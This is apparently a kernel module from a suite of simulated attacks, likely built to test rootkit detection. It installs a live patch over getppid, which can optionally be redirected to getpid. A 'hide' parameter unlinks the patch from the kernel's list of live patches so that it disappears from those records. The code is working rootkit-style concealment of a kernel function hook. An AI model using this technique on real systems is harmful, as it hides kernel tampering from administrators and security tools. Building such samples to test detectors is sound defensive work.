// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * No attack as it is: a live patch that replaces the function behind getppid by one that does the same. A distributor's patch
 * is loaded and taken back in the same way: 0 written to /sys/kernel/livepatch/live_patch/enabled, and the module unloaded
 * when that folder has gone.
 * Technique: the same taken off the list of patches (1 written to its parameter `hide` once all tasks have gone over to it; 0
 * brings it back), or leading to another function of the kernel (how=elsewhere: to that behind getpid). Who: no kit that is
 * known; a ready-made hook for any function.
 * Changes: the records of live patching.
 */
#include "attack.h"

#ifdef CONFIG_LIVEPATCH
#include <linux/livepatch.h>
#include <linux/sched.h>

KERNEL_SYMBOL(klp_patches);
KERNEL_SYMBOL(__x64_sys_getpid);
VARIANT("listed");

static noinline long patched_getppid(const struct pt_regs *registers)
{
	long pid;

	rcu_read_lock();
	pid = task_tgid_vnr(rcu_dereference(current->real_parent));
	rcu_read_unlock();
	return pid;
}

static struct klp_func functions[] = {{.old_name = "__x64_sys_getppid", .new_func = patched_getppid}, {}};
static struct klp_object objects[] = {{.funcs = functions}, {}};
static struct klp_patch patch = {.mod = THIS_MODULE, .objs = objects};

static int hide(const char *value, const struct kernel_param *parameter)
{
	if (value[0] == '1')
		list_del_rcu(&patch.list);
	else if (value[0] == '0')
		list_add_tail_rcu(&patch.list, (struct list_head *)klp_patches_at);
	return 0;
}
static const struct kernel_param_ops hide_operations = {.set = hide};
module_param_cb(hide, &hide_operations, NULL, 0200);

static int __init start(void)
{
	if (!klp_patches_at || !__x64_sys_getpid_at)
		return -ENOENT;
	if (HOW("elsewhere"))
		functions[0].new_func = (void *)__x64_sys_getpid_at;
	return klp_enable_patch(&patch);
}

static void __exit stop(void)
{
}

MODULE_INFO(livepatch, "Y");
#else
static int __init start(void)
{
	return -EOPNOTSUPP;
}

static void __exit stop(void)
{
}
#endif

ATTACK(start, stop);
